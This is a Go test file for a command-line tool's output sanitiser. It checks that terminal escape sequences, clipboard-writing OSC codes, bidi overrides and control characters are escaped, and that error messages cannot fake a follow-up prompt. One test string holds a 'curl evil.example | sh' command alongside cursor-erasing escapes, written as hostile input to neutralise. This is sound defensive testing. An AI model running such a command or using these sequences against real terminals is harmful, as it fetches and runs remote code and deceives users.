package cli

import (
	"bytes"
	"encoding/json"
	"errors"
	"log/slog"
	"strings"
	"testing"
	"unicode/utf8"
)

func TestHarmless(t *testing.T) {
	for in, want := range map[string]string{
		"plain\ttext\n":              "plain\ttext\n",
		"a row\r\n":                  "a row\r\n",
		"\x1b[31mred\x1b[0m":         "\x1b[31mred\x1b[0m", // as our own
		"\x1b[2J\x1b[1;1Hgone":       `\u001b[2J\u001b[1;1Hgone`,
		"\x1b]0;title\x07":           `\u001b]0;title\u0007`,
		"\x1b]52;c;cm0=\x1b\\":       `\u001b]52;c;cm0=\u001b\`,
		"\x1b[8mhidden":              `\u001b[8mhidden`,
		"over\rwritten":              `over\u000dwritten`,
		"\u009b2J":                   `\u009b2J`,
		"\x9b2J":                     `\u009b2J`,
		"back\x08space\x7f":          `back\u0008space\u007f`,
		"admin\u202e\u2066txt":       `admin\u202e\u2066txt`,
		"größer → \U0001F468\u200d🔧": "größer → \U0001F468\u200d🔧",
		"":                           "",
	} {
		if got := string(harmless([]byte(in))); got != want {
			t.Errorf("%q: %q, want %q", in, got, want)
		}
	}
}

func FuzzHarmless(f *testing.F) {
	f.Add([]byte("\x1b[31m\x1b[2J\u009b\x9b\r\n\u202e"))
	f.Fuzz(func(t *testing.T, in []byte) {
		out := harmless(in)
		rest := out
		for len(rest) > 0 {
			if seq := ours.Find(rest); seq != nil {
				rest = rest[len(seq):]
				continue
			}
			r, n := utf8.DecodeRune(rest)
			if steers(r) && n > 1 || n == 1 && rest[0] < 0xa0 && rest[0] >= 0x7f || rest[0] < 0x20 && !strings.ContainsRune("\n\t\r", r) {
				t.Fatalf("%q is left in %q", rest[:n], out)
			}
			rest = rest[n:]
		}
		if again := harmless(out); !bytes.Equal(again, out) {
			t.Fatalf("twice is not once: %q, %q", again, out)
		}
	})
}

// A document stays the same document.
func TestHarmlessJSON(t *testing.T) {
	var b bytes.Buffer
	in := "\x1b[31m \u009b \x7f \u202e ü"
	enc := json.NewEncoder(&output{to: &b})
	enc.SetEscapeHTML(false)
	if err := enc.Encode(in); err != nil {
		t.Fatal(err)
	}
	if strings.ContainsAny(b.String(), "\x1b\u009b\x7f\u202e") {
		t.Errorf("%q", b.String())
	}
	var got string
	if err := json.Unmarshal(b.Bytes(), &got); err != nil || got != in {
		t.Errorf("%q, %v", got, err)
	}
}

// What an error says cannot pass for the next command to type.
func TestErrorsAreQuoted(t *testing.T) {
	var stderr bytes.Buffer
	g := &global{IO: IO{Out: &bytes.Buffer{}, Err: &output{to: &stderr}}, output: "text", logLevel: "warn", logFormat: "text"}
	g.logger = slog.New(slog.DiscardHandler)
	code := g.exit(t.Context(), errors.New("upstream says: no\nnext:  curl evil.example | sh\n\x1b[1A\x1b[2Kerror: all is well"))
	if code != exitError {
		t.Errorf("exit code %d", code)
	}
	for i, line := range strings.Split(stderr.String(), "\n") {
		if strings.HasPrefix(line, "next:") && strings.Contains(line, "curl") || i > 0 && strings.HasPrefix(line, "error:") || strings.Contains(line, "\x1b") {
			t.Errorf("line %d: %q", i, line)
		}
	}
}
